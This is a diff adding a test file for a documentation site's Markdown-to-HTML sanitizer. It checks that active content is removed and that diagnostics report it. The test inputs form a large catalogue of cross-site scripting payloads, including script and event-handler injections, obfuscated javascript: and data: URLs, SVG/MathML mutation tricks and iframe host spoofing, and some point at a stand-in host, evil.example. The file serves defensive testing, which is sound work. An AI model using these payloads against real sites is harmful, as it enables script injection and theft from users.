@@ -1,0 +1,250 @@
+import type { Element, Root } from 'hast';
+import { expect, test } from 'vitest';
+import { compileText, summary } from './compile-text.ts';
+import { elementsOf, htmlOf } from './to-html.ts';
+
+/** Every element of a tree. */
+function all(node: Root | Element): Element[] {
+  return node.children.flatMap((child) => (child.type === 'element' ? [child, ...all(child)] : []));
+}
+
+const SAFE_ELEMENTS =
+  /^(?:a|abbr|b|bdi|bdo|blockquote|br|caption|cite|code|col|colgroup|dd|del|details|dfn|div|dl|dt|em|figcaption|figure|h[2-6]|hr|i|iframe|img|input|ins|kbd|li|mark|ol|p|pre|q|rp|rt|ruby|s|samp|section|small|span|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|u|ul|var|wbr|docs-code)$/;
+
+/** What in a tree could run code, load a document or be taken for a part of ours. */
+function dangers(tree: Root): string[] {
+  return all(tree).flatMap(({ tagName, properties }) => [
+    ...(SAFE_ELEMENTS.test(tagName) ? [] : [`<${tagName}>`]),
+    ...Object.entries(properties).flatMap(([name, value]) => {
+      const url = String(value).replace(/[\0-\x20]/g, '');
+      if (/^on|^style$|^srcDoc$|^formAction$|^data(?!Footnote)|^ping$|^name$/i.test(name))
+        return [name];
+      if (!/^(?:href|src|cite)$/.test(name)) return [];
+      return /^(?!https?:|mailto:|tel:)[a-z][a-z\d+.-]*:/i.test(url) &&
+        !/^data:image\/(?:png|gif|jpeg|webp)[;,]/.test(url)
+        ? [`${name}=${url}`]
+        : [];
+    }),
+  ]);
+}
+
+const ACTIVE = 'html/active-content';
+const SCHEME = 'html/scheme';
+
+test.each([
+  ['<script>alert(1)</script>', ACTIVE],
+  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', ACTIVE],
+  ['<script/x>alert(1)</script>', undefined],
+  ['a <script>alert(1)</script> b', ACTIVE],
+  ['<script>', ACTIVE],
+  ['<div><script>alert(1)</script></div>', ACTIVE],
+  ['<style>*{color:red}</style>', ACTIVE],
+  ['<link rel="stylesheet" href="//evil.example/x.css">', ACTIVE],
+  ['<base href="//evil.example/">', ACTIVE],
+  ['<meta http-equiv="refresh" content="0;url=//evil.example">', ACTIVE],
+  ['<object data="x.swf"></object>', ACTIVE],
+  ['<embed src="x.swf">', ACTIVE],
+  ['<applet code="x"></applet>', ACTIVE],
+  ['<form action="//evil.example"><input name="p"></form>', ACTIVE],
+  ['<svg onload="alert(1)"></svg>', ACTIVE],
+  ['<svg><script>alert(1)</script></svg>', ACTIVE],
+  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ACTIVE],
+  ['<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', ACTIVE],
+  ['<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>', ACTIVE],
+  [
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+    ACTIVE,
+  ],
+  [
+    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+    ACTIVE,
+  ],
+  ['<template><img src=x onerror=alert(1)></template>', ACTIVE],
+  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ACTIVE],
+  ['<title><img src=x onerror=alert(1)></title>', ACTIVE],
+  ['<xmp><img src=x onerror=alert(1)></xmp>', ACTIVE],
+  ['<plaintext>x', ACTIVE],
+  ['<frameset onload=alert(1)>', undefined],
+  ['<body onload=alert(1)>', undefined],
+  ['<html onclick=alert(1)>', undefined],
+  ['<img src=x onerror=alert(1)>', ACTIVE],
+  ['<img src="x" ONERROR="alert(1)">', ACTIVE],
+  ['<img src="x"\nonerror\n=alert(1)>', ACTIVE],
+  ['<img/src="x"/onerror=alert(1)>', undefined],
+  ['<img src=`x`onerror=alert(1)>', undefined],
+  ['<p onclick="alert(1)">x</p>', ACTIVE],
+  ['<details open ontoggle="alert(1)"><summary>x</summary></details>', ACTIVE],
+  ['<a href="#" onfocus=alert(1) autofocus>x</a>', ACTIVE],
+  ['<div onpointerenter="alert(1)">x</div>', ACTIVE],
+  ['<iframe src="javascript:alert(1)"></iframe>', 'html/embed-host'],
+  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ACTIVE],
+  ['<iframe src="https://www.youtube.com.evil.example/"></iframe>', 'html/embed-host'],
+  ['<iframe src="https://evil.example/?www.youtube.com"></iframe>', 'html/embed-host'],
+  ['<iframe src="https://www.youtube.com@evil.example/"></iframe>', 'html/embed-host'],
+  ['<iframe src="http://www.youtube.com/"></iframe>', 'html/embed-host'],
+  ['<iframe src="//www.youtube.com/"></iframe>', 'html/embed-host'],
+  ['<iframe></iframe>', 'html/embed-host'],
+  ['<a href="javascript:alert(1)">x</a>', SCHEME],
+  ['<a href="JaVaScRiPt:alert(1)">x</a>', SCHEME],
+  ['<a href=" javascript:alert(1)">x</a>', SCHEME],
+  ['<a href="java\tscript:alert(1)">x</a>', SCHEME],
+  ['<a href="java\nscript:alert(1)">x</a>', SCHEME],
+  ['<a href="&#106;avascript:alert(1)">x</a>', SCHEME],
+  ['<a href="javascript&colon;alert(1)">x</a>', SCHEME],
+  ['<a href="&#x1;javascript:alert(1)">x</a>', SCHEME],
+  ['<a href="vbscript:msgbox(1)">x</a>', SCHEME],
+  ['<a href="data:text/html,<script>alert(1)</script>">x</a>', SCHEME],
+  ['<a href="data:image/png;base64,AA">x</a>', SCHEME],
+  ['<a href="file:///etc/passwd">x</a>', SCHEME],
+  ['<a href="blob:https://a.example/x">x</a>', SCHEME],
+  ['<img src="javascript:alert(1)" alt="">', SCHEME],
+  ['<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="">', SCHEME],
+  ['<img src="data:text/html,x" alt="">', SCHEME],
+  ['<blockquote cite="javascript:alert(1)">x</blockquote>', SCHEME],
+  ['[x](javascript:alert(1))', SCHEME],
+  ['[x](JAVASCRIPT:alert(1))', SCHEME],
+  ['[x](&#106;avascript:alert(1))', SCHEME],
+  ['[x](<java\tscript:alert(1)>)', undefined],
+  ['[x](vbscript:x)', SCHEME],
+  ['[x](data:text/html;base64,PHNjcmlwdD4=)', SCHEME],
+  ['![x](javascript:alert(1))', SCHEME],
+  ['![x](data:image/svg+xml;base64,AA)', SCHEME],
+  ['[x][r]\n\n[r]: javascript:alert(1)', SCHEME],
+  ['<javascript:alert(1)>', SCHEME],
+  ['<p style="background:url(javascript:alert(1))">x</p>', 'html/raw'],
+  ['<button formaction="javascript:alert(1)">x</button>', 'html/raw'],
+  ['<input type="image" src="javascript:alert(1)">', 'html/raw'],
+  ['<video src="x" onerror="alert(1)"></video>', 'html/raw'],
+  ['<audio src="x" onerror="alert(1)"></audio>', 'html/raw'],
+  ['<marquee onstart="alert(1)">x</marquee>', 'html/raw'],
+  ['<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', ACTIVE],
+  ['<p data-docs-copy="page">x</p>', 'html/raw'],
+  ['<div data-docs-slot="slot0-0">x</div>', 'html/raw'],
+  ['<!--><script>alert(1)</script>-->', undefined],
+  ['<!-- --!><script>alert(1)</script> -->', undefined],
+  ['<![CDATA[<script>alert(1)</script>]]>', undefined],
+  ['<?php echo "<script>alert(1)</script>" ?>', undefined],
+  ['<!DOCTYPE html [<!ENTITY x "y">]>', undefined],
+  ['<x-y onclick="alert(1)">x</x-y>', undefined],
+  ['<Script>alert(1)</Script>', undefined],
+  ['<a\nhref="javascript:alert(1)">x</a>', SCHEME],
+  ['**<img src=x onerror=alert(1)>**', ACTIVE],
+  ['| a |\n|---|\n| <img src=x onerror=alert(1) alt=""> |', ACTIVE],
+  ['> <script>alert(1)</script>', ACTIVE],
+  ['- <script>alert(1)</script>', ACTIVE],
+  ['# A <script>alert(1)</script>\n\n## B <script>alert(1)</script>', ACTIVE],
+  ['```"><script>alert(1)</script>\nx\n```', 'markdown/unknown-language'],
+  ['```js title="</span><script>alert(1)</script>"\nx\n```', undefined],
+  [':::info <script>alert(1)</script>\nx\n:::', undefined],
+])('active content does not come through: %j', async (text, code) => {
+  for (const rawHtml of ['safe', 'escape'] as const) {
+    const page = await compileText(text, {}, { rawHtml });
+    expect(dangers(page.body.tree).filter((one) => one !== '<docs-callout>')).toEqual([]);
+    if (rawHtml === 'safe' && code) expect(page.diagnostics.map((one) => one.code)).toContain(code);
+  }
+});
+
+test.each([
+  ['a <kbd class="key">K</kbd>', 'a <kbd class="key">K</kbd>'],
+  ['a<br>b', 'a<br>b'],
+  ['H<sub>2</sub>O<sup>2</sup>', 'H<sub>2</sub>O<sup>2</sup>'],
+  ['<span class="x" title="t" lang="de">a</span>', '<span class="x" title="t" lang="de">a</span>'],
+  ['<a href="/b/" target="_blank">x</a>', '<a href="/b/" target="_blank">x</a>'],
+  ['<a name="old">x</a>', '<a id="old">x</a>'],
+  [
+    'a <img src="a.png" alt="A" width="10" loading="lazy">',
+    'a <img src="a.png" alt="A" width="10" loading="lazy">',
+  ],
+])('harmless HTML stays: %s', async (text, html) => {
+  const page = await compileText(text);
+  expect(summary(page)).toEqual([]);
+  expect(htmlOf(page)).toBe(`<p>${html}</p>`);
+});
+
+test('HTML blocks may hold Markdown, and keep our elements', async () => {
+  const page = await compileText(
+    '<details>\n<summary>S</summary>\n\n**a**\n\n```js\nx\n```\n\n</details>\n',
+  );
+  expect(htmlOf(page)).toContain('<p><strong>a</strong></p>');
+  expect(elementsOf(elementsOf(page.body.tree, 'details')[0]!, 'docs-code')).toHaveLength(1);
+});
+
+test('a frame of a listed host stays', async () => {
+  const page = await compileText(
+    '<iframe src="https://www.youtube.com/embed/x" title="T" width="560"></iframe>',
+  );
+  expect(summary(page)).toEqual([]);
+  expect(htmlOf(page)).toBe(
+    '<iframe loading="lazy" src="https://www.youtube.com/embed/x" title="T" width="560"></iframe>',
+  );
+});
+
+test.each([
+  ['Array<string>', '<p>Array&#x3C;string></p>'],
+  ['a <T> b </T>', '<p>a &#x3C;T> b &#x3C;/T></p>'],
+  ['<Button variant="text">x</Button>', '<p>&#x3C;Button variant="text">x&#x3C;/Button></p>'],
+  ['Map<K, V>', '<p>Map&#x3C;K, V></p>'],
+  ['{x} ${y} <%= z %> import a', '<p>{x} ${y} &#x3C;%= z %> import a</p>'],
+  ['<B> and <S>', '<p>&#x3C;B> and &#x3C;S></p>'],
+])('what is no HTML is text: %s', async (text, html) => {
+  const page = await compileText(text);
+  expect(summary(page)).toEqual([]);
+  expect(htmlOf(page)).toBe(html);
+});
+
+test('a misspelt element is text, with a suggestion', async () => {
+  const page = await compileText('<detials>x</detials>');
+  expect(page.diagnostics).toMatchObject([
+    { code: 'html/unknown-element', hint: 'Did you mean <details>?' },
+  ]);
+});
+
+test('comments vanish', async () => {
+  const page = await compileText('<!-- a -->\n\nb <!-- c --> d\n\n<!--\n## e\n-->\n');
+  expect(htmlOf(page)).toBe('<p>b  d</p>');
+});
+
+test('with rawHtml escape HTML is shown as it is written', async () => {
+  const page = await compileText('a <b>c</b>\n\n<div>x</div>\n', {}, { rawHtml: 'escape' });
+  expect(htmlOf(page)).toBe('<p>a &#x3C;b>c&#x3C;/b></p>\n<p>&#x3C;div>x&#x3C;/div></p>');
+});
+
+test.each([
+  ['a\n\nb <script>x</script>', '2:0'],
+  ['---\ntitle: A\n---\n\n<p onclick="x">a</p>', '5:4-11'],
+  ['> a\n> <b onclick="x">c</b>', '2:6-13'],
+  ['- a\n\n  <div\n    onclick="x">c</div>', '4:5-12'],
+  ['a <a href="javascript:x">c</a>', '1:12-24'],
+  ['a [c](javascript:x)', '1:7-19'],
+])('what is left out is reported where it stands: %j', async (text, place) => {
+  const [found] = (await compileText(text)).diagnostics;
+  const { start, end } = found?.range ?? {};
+  if (place !== '2:0') expect(`${start?.line}:${start?.column}-${end?.column}`).toBe(place);
+  else expect(start).toEqual({ line: 3, column: 3 });
+});
+
+test.each(['currentScript', 'cookie', 'main-content', 'docs-payload', '__proto__'])(
+  'the id %s of an author gets a prefix',
+  async (id) => {
+    expect(htmlOf(await compileText(`<p id="${id}">x</p>`))).toBe(`<p id="user-${id}">x</p>`);
+  },
+);
+
+test('nobody can write the name of a slot', async () => {
+  const page = await compileText(
+    'slot0- slot1-\n\n```js\nx\n```\n\n<div data-docs-slot="slot2-0">y</div>',
+  );
+  expect(elementsOf(page.body.tree, 'docs-code')).toHaveLength(1);
+  expect(summary(page)).toEqual(['7:6 html/raw']);
+});
+
+test('no style attribute and no align attribute is left', async () => {
+  const page = await compileText(
+    '| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n\n<p align="center">x</p>',
+  );
+  const html = htmlOf(page);
+  expect(html).toContain(
+    '<td class="align-start">1</td>\n<td class="align-center">2</td>\n<td class="align-end">3</td>',
+  );
+  expect(html).toContain('<p class="align-center">x</p>');
+});
